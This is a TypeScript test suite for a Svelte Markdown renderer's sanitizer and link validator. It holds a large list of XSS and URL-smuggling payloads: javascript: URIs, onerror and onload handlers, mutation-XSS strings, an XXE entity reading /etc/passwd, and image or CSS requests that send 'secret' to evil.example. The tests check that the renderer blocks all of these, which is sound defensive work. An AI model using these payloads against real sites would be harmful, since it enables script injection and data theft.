import { fireEvent, render, screen } from '@testing-library/svelte';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import Markdown from '$shared/Markdown.svelte';
import { FakeBackend } from '$lib/api/fake';
import { openFromWindow } from '$lib/controllers/links';
import { externalAddress } from '$lib/links';
import { markdownHtml } from '$lib/markdown';
import { eventually } from './eventually';

// Addresses that must lead nowhere by themselves, or nowhere at all.
const addresses = [
  'https://evil.example/?q=secret',
  'http://evil.example/',
  '//evil.example/x',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)',
  'javascript:/*--></title></style><svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;utf8,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'ftp://evil.example/x',
  'smb://evil.example/share',
  'ms-search:displayname=x',
  'vscode://file/etc/passwd',
  'mailto:someone@evil.example?body=secret',
  'tel:+1555',
  'wails://wails/x',
  'https://user:password@evil.example/',
  'https://evil.example\\@example.com/',
  'https://127.0.0.1:9999/',
  'https://localhost/',
  'https://xn--80ak6aa92e.com/',
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'onfocus='alert(1)",
  'https://evil.example/<script>alert(1)</script>',
  'x" onerror="alert(1)',
];

const forms = [
  (to: string) => `[click](${to})`,
  (to: string) => `[click](<${to}> "title")`,
  (to: string) => `![a picture](${to})`,
  (to: string) => `![a picture][p]\n\n[p]: ${to} "title"`,
  (to: string) => `<${to}>`,
];

const written = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif?d=secret">',
  '<img srcset="https://evil.example/a 1x">',
  '<picture><source srcset="https://evil.example/a"><img></picture>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><image href="https://evil.example/a"/></svg>',
  '<svg><use href="https://evil.example/a#x"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x"></object>',
  '<embed src="https://evil.example/x">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select onfocus=alert(1)></select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src="https://evil.example/v" onerror=alert(1)></video>',
  '<audio src="https://evil.example/a"></audio>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>body{background:url(https://evil.example/b)}</style>',
  '<div style="background:url(https://evil.example/b)">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="https://evil.example" target=_blank>x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a ping="https://evil.example" href="#">x</a>',
  '<span data-link="https://evil.example/forged">press</span>',
  '<span data-link="javascript:alert(1)">press</span>',
  '<div id="app" class="markdown" onclick=alert(1)>x</div>',
  '<div contenteditable onpaste=alert(1)>x</div>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<dialog open>x</dialog>',
  '<portal src="https://evil.example"></portal>',
  '<custom-element onx=1>x</custom-element>',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '~~~ javascript:alert(1)\n<script>alert(1)</script>\n~~~',
  '    <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>\n===',
  'A heading\n---\n<svg onload=alert(1)>',
  '> <img src=x onerror=alert(1)>',
  '- <img src=x onerror=alert(1)>\n- [ ] task\n- [x] done',
  '1. <iframe src=javascript:alert(1)>',
  '| a | <img src=x onerror=alert(1)> |\n|---|:-:|\n| [x](javascript:alert(1)) | ![i](https://evil.example/i) |',
  '| a |\n|---|\n| `|` <script>alert(1)</script> |',
  '*<img src=x onerror=alert(1)>*',
  '**[x](javascript:alert(1))**',
  '~~<svg onload=alert(1)>~~',
  '[![nested](https://evil.example/i.png)](https://evil.example/page)',
  '[a [b](https://evil.example/b) c](https://evil.example/a)',
  '![a ![b](https://evil.example/b)](https://evil.example/a)',
  '[x]: https://evil.example/ref "t"\n\n[x] and [words][x] and ![pic][x]',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '![][1]\n\n[1]: https://evil.example/?d=secret',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  'https://evil.example/auto?d=secret',
  'www.evil.example/auto',
  'someone@evil.example',
  '<someone@evil.example>',
  '[x](https://evil.example "onmouseover=alert(1)")',
  '[x](https://evil.example \'a" onerror="alert(1)\')',
  '[<img src=x onerror=alert(1)>](https://evil.example)',
  '[`<img src=x onerror=alert(1)>`](https://evil.example)',
  '[x](<javascript:alert(1)>)',
  '[x](javascript:alert(1)\u0000)',
  '[x](\u00a0javascript:alert(1))',
  '[\u202egnp.exe](https://evil.example)',
  '\\<img src=x onerror=alert(1)\\>',
  '<img\u0000src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)',
  '<a\nhref="javascript:alert(1)">x</a>',
  '<x onclick=alert(1) style=x>y</x>',
  '${alert(1)} {{constructor.constructor("alert(1)")()}} {@html "<img src=x>"}',
  '</div></div><img src=x onerror=alert(1)>',
  ']]></script><script>alert(1)</script>',
  '['.repeat(3000) + 'x' + ']'.repeat(3000),
  '![](https://evil.example/'.repeat(300),
  '<b>'.repeat(3000),
  '> '.repeat(300) + '<img src=x onerror=alert(1)>',
  'x'.repeat(100_001) + '<img src=x onerror=alert(1)>',
];

const vectors = [...written, ...addresses.flatMap((to) => forms.map((form) => form(to)))];

const tags =
  'P BR HR H1 H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE EM STRONG DEL TABLE THEAD TBODY TR TH TD SPAN'.split(' ');
const attributes = ['data-link', 'role', 'tabindex'];

/** What stands in an element and must not. */
function trouble(box: Element): string[] {
  const found: string[] = [];
  for (const element of box.querySelectorAll('*')) {
    if (!tags.includes(element.tagName)) found.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (!attributes.includes(name)) found.push(`${name}="${value}"`);
      if (name === 'data-link' && externalAddress(value)?.url !== value) found.push(`link to ${value}`);
    }
  }
  return found;
}

describe('Markdown', () => {
  const network = vi.fn();
  beforeEach(() => {
    vi.stubGlobal('fetch', network);
    vi.stubGlobal('alert', network);
    vi.stubGlobal('open', network);
    vi.spyOn(XMLHttpRequest.prototype, 'open').mockImplementation(network);
    HTMLDialogElement.prototype.showModal ??= function () {
      this.setAttribute('open', '');
    };
    HTMLDialogElement.prototype.close ??= function () {
      this.removeAttribute('open');
    };
  });
  afterEach(() => {
    vi.unstubAllGlobals();
    vi.restoreAllMocks();
    network.mockClear();
  });

  it(`lets none of ${vectors.length} texts load, run, style or lead anywhere`, () => {
    expect(vectors.length).toBeGreaterThanOrEqual(150);
    for (const vector of vectors) {
      const { container, unmount } = render(Markdown, { text: vector });
      const box = container.querySelector('.markdown')!;
      expect(trouble(box), vector.slice(0, 200)).toEqual([]);
      expect(
        container.querySelectorAll('script, img, iframe, object, embed, form, svg, a, style, link, input').length,
        vector,
      ).toBe(0);
      expect(document.head.querySelectorAll('base, meta[http-equiv]').length, vector).toBe(0);
      unmount();
    }
    expect(network).not.toHaveBeenCalled();
  }, 30_000);

  it('does the same where a text grows letter by letter', () => {
    for (const vector of written.filter((text) => text.length < 200)) {
      for (let length = 1; length < vector.length; length += 7) {
        const box = document.createElement('div');
        box.append(document.createRange().createContextualFragment(markdownHtml(vector.slice(0, length))));
        expect(trouble(box), vector.slice(0, length)).toEqual([]);
      }
    }
  }, 30_000);

  it('keeps what is said', () => {
    const { container } = render(Markdown, {
      text: '# Result\n\n**Revenue** rose by *3 %*.\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n`code` <b>raw</b> ![chart](https://evil.example/c.png)',
    });
    const box = container.querySelector('.markdown')!;
    expect(box.querySelector('h1')?.textContent).toBe('Result');
    expect(box.querySelector('strong')?.textContent).toBe('Revenue');
    expect(box.querySelectorAll('li, td').length).toBe(4);
    expect(box.textContent).toContain('<b>raw</b>');
    expect(box.textContent).toContain('chart (https://evil.example/c.png)');
  });

  it('shows where a link leads and asks by the name of the host', async () => {
    render(Markdown, { text: 'See [our docs](https://evil.example/path?q=1).' });
    const link = screen.getByRole('link');
    expect(link.textContent).toBe('our docs (https://evil.example/path?q=1)');
    await fireEvent.click(link);
    expect(network).not.toHaveBeenCalled();
    expect(screen.getByText(/This opens evil\.example in your browser/)).toBeTruthy();
    await fireEvent.click(screen.getByText('Close'));
    expect(network).not.toHaveBeenCalled();
    await fireEvent.keyDown(link, { key: 'Enter' });
    await fireEvent.click(screen.getByText('Open in the browser'));
    expect(network).toHaveBeenCalledExactlyOnceWith('https://evil.example/path?q=1', '_blank', 'noopener,noreferrer');
  });

  it('leaves the question to the shell in the window', async () => {
    const opened = vi.fn(async () => undefined);
    vi.stubGlobal('go', { main: { Window: { OpenExternal: opened } } });
    const backend = new FakeBackend();
    render(Markdown, { text: 'https://evil.example/', onlink: (address) => void openFromWindow(backend, address) });
    await fireEvent.click(screen.getByRole('link'));
    await eventually(() => expect(opened).toHaveBeenCalledExactlyOnceWith('id of https://evil.example/'));
    expect(network).not.toHaveBeenCalled();
  });
});

describe('externalAddress', () => {
  it('takes plain https addresses alone', () => {
    for (const good of ['https://example.com/', 'https://a.example.co.uk:8443/x?y=z#w'])
      expect(externalAddress(good)?.url).toBe(good);
    const fit = [
      'https://evil.example/?q=secret',
      'https://xn--80ak6aa92e.com/',
      'https://evil.example/"onmouseover="alert(1)',
    ];
    for (const bad of addresses.filter((to) => !fit.includes(to))) {
      if (!/^https:\/\/evil\.example\/['<]/.test(bad)) expect(externalAddress(bad), bad).toBeNull();
    }
    for (const bad of [
      'https://0x7f000001/',
      'https://2130706433/',
      'https://127.1/',
      'https://[::1]/',
      'https://exa\u0301mple.com/',
      'https://example.com./',
    ]) {
      expect(externalAddress(bad), bad).toBeNull();
    }
  });
});
